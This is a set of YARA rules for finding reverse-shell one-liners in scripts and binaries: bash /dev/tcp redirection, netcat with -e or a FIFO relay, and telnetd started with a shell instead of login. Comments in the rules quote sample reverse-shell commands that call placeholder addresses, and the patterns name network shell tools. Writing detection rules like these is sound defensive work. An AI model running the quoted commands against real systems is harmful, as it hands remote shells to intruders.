// Interactive shells handed to a remote host: the one-liners an intruder leaves in an init
// script, a cron entry or a CGI. The shell rules here read a "line" as a run of printable
// characters without `#` that starts the file or follows any other byte (a newline, or the
// NUL or code before a string inside a binary), so a commented-out example does not count.

rule reverse_shell_dev_tcp {
    meta:
        severity = "critical"
        description = "An interactive shell redirected to a /dev/tcp or /dev/udp socket (bash reverse shell)"
        reference = "bash(1), REDIRECTION: /dev/tcp/host/port opens a TCP connection"
    strings:
        // sh -i >& /dev/tcp/10.0.0.1/4444 0>&1, and the same with the redirection first
        $shell_first = /(^|[^\t\x20-\x7e])[\t\x20-\x22\x24-\x7e]{0,160}\b(ba|da|z|k)?sh\s+-i\b[^\n\x00]{0,40}\/dev\/(tcp|udp)\/[A-Za-z0-9.:\-]{1,253}\/[0-9]{1,5}/
        // exec 5<>/dev/tcp/host/port; ... <&5 ... >&5
        $fd_loop = /(^|[^\t\x20-\x7e])[\t\x20-\x22\x24-\x7e]{0,80}\bexec\s+[0-9]{1,2}<>\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.:\-]{1,253}\/[0-9]{1,5}/
    condition:
        any of them
}

rule reverse_shell_netcat {
    meta:
        severity = "critical"
        description = "netcat started to hand a shell to the other end (-e /bin/sh, or a shell piped through nc and a FIFO)"
        reference = "nc(1) -e/-c; the mkfifo relay is the usual form when nc lacks -e"
    strings:
        $nc_exec = /(^|[^\t\x20-\x7e])[\t\x20-\x22\x24-\x7e]{0,80}\b(nc|ncat|netcat)(\.[a-z]+)?\s[^\n\x00;|]{0,120}-[ec]\s*(\/usr)?\/bin\/(ba|a|da)?sh\b/
        $fifo_relay = /(^|[^\t\x20-\x7e])[\t\x20-\x22\x24-\x7e]{0,160}(\/bin\/)?(ba|a)?sh\s+-i[^\n\x00]{0,40}\|\s*(busybox\s+)?(nc|ncat|netcat)\s+[A-Za-z0-9.:\-]{1,253}\s+[0-9]{1,5}/
    condition:
        any of them
}

rule telnetd_without_login {
    meta:
        severity = "critical"
        description = "telnetd started with a shell as its login program: anyone who connects gets a root shell without a password"
        reference = "busybox telnetd -l PROG: exec PROG instead of login(1)"
    strings:
        $telnetd_sh = /(^|[^\t\x20-\x7e])[\t\x20-\x22\x24-\x7e]{0,80}\bu?telnetd\s[^\n\x00;|&]{0,80}-l\s*(\/usr)?\/bin\/(ba|a|da)?sh\b/
    condition:
        $telnetd_sh
}
